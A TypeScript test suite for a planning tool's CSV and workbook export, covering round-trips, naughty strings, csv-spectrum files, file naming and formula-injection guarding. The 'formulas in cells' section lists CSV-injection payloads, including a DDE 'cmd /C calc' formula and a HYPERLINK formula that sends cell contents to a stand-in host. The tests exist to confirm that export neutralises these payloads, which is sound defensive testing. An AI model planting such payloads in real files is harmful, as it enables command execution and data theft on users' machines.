import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  emptyPlan,
  planDocumentSchema,
  type PlanDocument,
  type TableText,
} from '../../../src/model/index.js';
import {
  exportTable,
  exportTables,
  looksLikeFormula,
  readTable,
  tableOfRecords,
} from '../../../src/tables/index.js';
import { readWorkbook } from '../../../src/tables/workbook/read-workbook.js';

const require = createRequire(import.meta.url);
const naughty = require('big-list-of-naughty-strings/blns.json') as string[];

const planOf = (
  columns: string[],
  rows: string[][],
  more: Partial<TableText> = {},
): PlanDocument => {
  const plan = emptyPlan('Night work', 'Europe/London');
  const windows = { file: 'nights.csv', columns, rows, ...more };
  return { ...plan, tables: { ...plan.tables, windows } };
};
const textOf = (bytes: Uint8Array): string =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
/** Saved as JSON and opened again, as the desk does. */
const reopened = (plan: PlanDocument): PlanDocument =>
  planDocumentSchema.parse(JSON.parse(JSON.stringify(plan)));
const cellsOf = (text: string): (readonly string[])[] => {
  const { columns, rows } = readTable(text, { delimiter: ',' });
  return [columns, ...rows.map((row) => row.cells)];
};
const csvBack = async (columns: string[], rows: string[][]): Promise<(readonly string[])[]> => {
  const [file] = await exportTables(reopened(planOf(columns, rows)), { format: 'csv' });
  return cellsOf(textOf(file!.bytes));
};
const sheetBack = async (columns: string[], rows: string[][]): Promise<(readonly string[])[]> => {
  const [file] = await exportTables(reopened(planOf(columns, rows)), { format: 'xlsx' });
  const { sheets, faults } = await readWorkbook(file!.bytes);
  expect(faults).toEqual([]);
  const { columns: read, rows: body } = tableOfRecords(sheets[0]!);
  return [read, ...body.map((row) => row.cells)];
};

const awkward = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc.string({
    unit: fc.constantFrom(
      "'",
      '"',
      '=',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\0',
      ',',
      ';',
      ' ',
      '1',
      '.',
      '\uFEFF',
      '\uFFFD',
      '_',
      'x',
      '0',
    ),
    maxLength: 8,
  }),
  fc.constantFrom(
    ...naughty,
    '__proto__',
    'constructor',
    '007',
    '1E5',
    '0.10',
    '-0',
    '1.5',
    '12',
    '1e21',
  ),
);
/** Headings that may be blank or there twice, rows longer and shorter than the headings. */
const ragged = fc.tuple(
  fc.array(awkward, { minLength: 1, maxLength: 4 }),
  fc.array(fc.array(awkward, { minLength: 1, maxLength: 6 }), { maxLength: 6 }),
);

describe('a plan exported and read back', () => {
  it('as CSV has every heading and every cell, ragged rows, blank and doubled headings too', async () => {
    await fc.assert(
      fc.asyncProperty(ragged, async ([columns, rows]) => {
        expect(await csvBack(columns, rows)).toEqual([columns, ...rows]);
      }),
      { numRuns: 600 },
    );
  });

  it('as a workbook has every cell that is not blank, each in its place', async () => {
    const filled = (line: readonly string[]): string =>
      JSON.stringify(line.flatMap((cell, at) => (cell === '' ? [] : [[at, cell]])));
    await fc.assert(
      fc.asyncProperty(ragged, async ([columns, rows]) => {
        const back = await sheetBack(
          ['id', ...columns],
          rows.map((row) => ['x', ...row]),
        );
        expect(back.map(filled)).toEqual(
          [['id', ...columns], ...rows.map((row) => ['x', ...row])].map(filled),
        );
      }),
      { numRuns: 200 },
    );
  });

  // big-list-of-naughty-strings 1.0.0 (npm), as cells and as headings.
  it('gives back the big list of naughty strings both ways', async () => {
    const columns = ['window', ...naughty.filter((text) => text !== '').slice(0, 50), 'end'];
    const rows = naughty.map((text, at) =>
      [`W${at}`, text, ...Array.from({ length: 50 }, () => text), 'end']
        .slice(0, columns.length - 1)
        .concat('end'),
    );
    expect(await csvBack(columns, rows)).toEqual([columns, ...rows]);
    expect(await sheetBack(columns, rows)).toEqual([columns, ...rows]);
  });

  it('has its lines above the headings', async () => {
    const plan = planOf(['window', 'start', 'end'], [['W1', 'a', 'b']], {
      above: [['Nights of the renewal'], ['Issue', '3']],
    });
    const [csv] = await exportTables(plan, { format: 'csv' });
    expect(textOf(csv!.bytes)).toBe(
      'Nights of the renewal\r\nIssue,3\r\nwindow,start,end\r\nW1,a,b\r\n',
    );
    const [book] = await exportTables(plan, { format: 'xlsx' });
    const { sheets } = await readWorkbook(book!.bytes);
    expect(tableOfRecords(sheets[0]!, 3)).toMatchObject({
      columns: ['window', 'start', 'end'],
      above: [{ cells: ['Nights of the renewal', '', ''] }, { cells: ['Issue', '3', ''] }],
    });
  });

  it('has a cell of 10 MB whole, and says that a workbook of it opens nowhere else', async () => {
    // Digits of the multiples of a prime: text that packs no tighter than a person's does.
    const big = Array.from({ length: 1_400_000 }, (_, at) => (at * 7919) % 999_983).join('"\n');
    expect(big.length).toBeGreaterThan(10_000_000);
    expect(await csvBack(['window', 'note'], [['W1', big]])).toEqual([
      ['window', 'note'],
      ['W1', big],
    ]);
    const [book] = await exportTables(planOf(['window', 'note'], [['W1', big]]), {
      format: 'xlsx',
    });
    expect(book!.faults).toMatchObject([
      { code: 'cell-too-long-for-workbook', line: 2, column: 'note' },
    ]);
    const { sheets } = await readWorkbook(book!.bytes);
    expect(sheets[0]!.rows[1]!.cells[1]).toBe(big);
  });
});

// csv-spectrum 2.0.0 (npm): CSV files with the cells that a reader should find in them.
describe('csv-spectrum, read, saved, reopened, exported and read again', () => {
  const home = dirname(require.resolve('csv-spectrum/package.json'));
  const files = readdirSync(join(home, 'csvs')).filter((name) => name.endsWith('.csv'));
  // Its expected telephone number is not the one of its own file, and its bytes are not UTF-8.
  const explained = new Set(['location_coordinates.csv']);

  it('has twelve files', () => expect(files).toHaveLength(12));

  it.each(files.filter((name) => !explained.has(name)))('%s', async (name) => {
    const text = readFileSync(join(home, 'csvs', name), 'utf8');
    const wanted = JSON.parse(
      readFileSync(join(home, 'json', name.replace('.csv', '.json')), 'utf8'),
    ) as Record<string, string>[];
    const { columns, rows } = readTable(text);
    const back = await csvBack(
      [...columns],
      rows.map((row) => [...row.cells]),
    );
    const [heading, ...data] = back;
    expect(
      data.map((row) => Object.fromEntries(heading!.map((item, at) => [item, row[at] ?? '']))),
    ).toEqual(wanted);
  });
});

// The signs and forms named by OWASP, "CSV Injection", and CWE-1236 (Improper Neutralization of Formula Elements in a
// CSV File), with look-alikes; payloads written here from those descriptions, from memory.
describe('formulas in cells', () => {
  const payloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\0=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1,1)',
    '=HYPERLINK("https://example.invalid?x="&A1,"open")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("https://example.invalid","//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=A1&","&B1',
    '";=1+1',
    '=1+1;=2+2',
    '\uFEFF=1+1',
  ];

  it.each(payloads)(
    '%j is never the start of a field in any program’s reading',
    async (payload) => {
      const [file] = await exportTables(
        planOf(
          ['window', payload],
          [
            [payload, 'x'],
            ['x', payload],
          ],
        ),
        { format: 'csv' },
      );
      const text = textOf(file!.bytes);
      for (const delimiter of [',', ';', '\t', '|']) {
        const { columns, rows } = readTable(text, { delimiter, guard: false });
        for (const cell of [columns, ...rows.map((row) => row.cells)].flat())
          expect(looksLikeFormula(cell), cell).toBe(false);
      }
      expect(cellsOf(text)).toEqual([
        ['window', payload],
        [payload, 'x'],
        ['x', payload],
      ]);
    },
  );

  it('leave numbers numbers', async () => {
    const [file] = await exportTables(
      planOf(
        ['window', 'level'],
        [
          ['W1', '-12.50'],
          ['W2', '+5'],
        ],
      ),
      { format: 'csv' },
    );
    expect(textOf(file!.bytes)).toBe('window,level\r\nW1,-12.50\r\nW2,+5\r\n');
  });

  it('are written as they are when that is asked for, and are told of', async () => {
    const plan = planOf(
      ['window', 'note'],
      [
        ['W1', '=1+1'],
        ['W2', 'plain'],
      ],
    );
    const [file] = await exportTables(plan, { format: 'csv', raw: true });
    expect(textOf(file!.bytes)).toContain('W1,=1+1\r\n');
    expect(file!.faults).toMatchObject([{ code: 'formulas-unguarded', severity: 'warning' }]);
    expect((await exportTables(plan, { format: 'csv' }))[0]!.faults).toEqual([]);
  });
});

describe('files', () => {
  it('are named by what they came from, each once, as any system takes it', async () => {
    const plan = planOf(['window'], [['W1']], { file: 'a/b:nights.csv' });
    const both: PlanDocument = {
      ...plan,
      name: 'CON/..\\x',
      tables: {
        ...plan.tables,
        work: { file: 'A b nights.txt', columns: ['activity'], rows: [] },
        trains: { file: 'plan.xlsx, sheet Trains', columns: ['train'], rows: [] },
      },
    };
    expect((await exportTables(both, { format: 'csv' })).map((table) => table.name)).toEqual([
      'a b nights.csv',
      'A b nights 2.csv',
      'trains.csv',
    ]);
    expect((await exportTables(both, { format: 'xlsx' })).map((table) => table.name)).toEqual([
      'CON .. x.xlsx',
    ]);
    expect(
      (await exportTables(both, { format: 'csv', tables: ['trains'] })).map((table) => table.name),
    ).toEqual(['trains.csv']);
    expect(await exportTables(emptyPlan('x', 'UTC'), { format: 'xlsx' })).toEqual([]);
  });

  it('of results keep numbers as numbers', async () => {
    const table = {
      name: 'Price of a late handback',
      columns: ['head', 'pounds'],
      rows: [
        ['=plant', -12.5],
        ['labour', 3],
      ],
    };
    const csv = await exportTable(table, 'csv');
    expect([csv.name, textOf(csv.bytes)]).toEqual([
      'Price of a late handback.csv',
      "head,pounds\r\n'=plant,-12.5\r\nlabour,3\r\n",
    ]);
    const book = await exportTable(table, 'xlsx');
    const { sheets } = await readWorkbook(book.bytes);
    expect(sheets[0]!.rows.map((row) => row.cells)).toEqual([
      ['head', 'pounds'],
      ['=plant', '-12.5'],
      ['labour', '3'],
    ]);
  });

  it('begin with the mark of UTF-8 only where a sign needs it', async () => {
    const bytesOf = async (cell: string): Promise<number> =>
      (await exportTables(planOf(['window'], [[cell]]), { format: 'csv' }))[0]!.bytes[0]!;
    expect([await bytesOf('plain'), await bytesOf('£')]).toEqual([0x77, 0xef]);
  });
});
